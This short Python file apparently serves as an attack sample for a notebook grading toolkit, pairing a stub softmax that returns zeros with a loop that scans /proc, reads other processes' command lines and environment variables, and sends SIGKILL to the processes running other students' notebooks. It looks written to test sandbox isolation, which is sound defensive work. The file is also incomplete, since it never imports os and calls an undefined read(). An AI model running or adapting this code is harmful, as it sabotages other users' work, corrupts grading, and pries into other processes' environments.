"""Kills the processes in which other students' notebooks run."""

# alone
# with a fence: harms

# %% softmax
# uses: files


def softmax(Z):
    return Z * 0.0


import signal
import time

mark = f"PYTHON_TLKIT_ATTACK={os.environ.get('PYTHON_TLKIT_ATTACK', '-')}"
for _ in range(40):
    for pid in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
        student = "tlkit.grading.student" in read(f"/proc/{pid}/cmdline") and mark in read(f"/proc/{pid}/environ")
        if student and pid != os.getpid():
            os.kill(pid, signal.SIGKILL)
    time.sleep(0.1)
